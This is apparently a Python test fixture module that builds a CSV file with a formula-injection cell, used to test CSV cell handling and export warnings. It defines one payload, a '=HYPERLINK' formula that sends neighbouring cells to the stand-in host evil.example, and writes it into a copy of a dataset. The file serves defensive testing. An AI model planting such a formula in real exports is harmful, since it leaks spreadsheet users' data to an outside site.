"""Data with cells a spreadsheet would run as a formula, for the tests of CSV cells (core/csv_cells.py) and of the
exports' word on the shared tasks' own files (campaigns/formula_cells.py)."""
from __future__ import annotations

import shutil
from pathlib import Path

from tests.conftest import DATA

# The cell of issue 42: clicked in a spreadsheet, it sends the row's neighbours to another site.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Invoice")'


def hostile_kpa_folder(tmp_path: Path) -> Path:
    """The KPA excerpt (tests/data/kpa2021) with argument arg_1_1, line 3 of arguments_test.csv, replaced by
    HYPERLINK, quoted as the task's files quote a text with a comma."""
    folder = tmp_path / "kpa"
    shutil.copytree(DATA / "kpa2021", folder)
    path = folder / "arguments_test.csv"
    lines = path.read_text("utf-8").split("\n")
    arg_id, _, rest = lines[2].split(",", 2)
    lines[2] = ",".join([arg_id, '"' + HYPERLINK.replace('"', '""') + '"', rest])
    path.write_text("\n".join(lines), encoding="utf-8")
    return folder
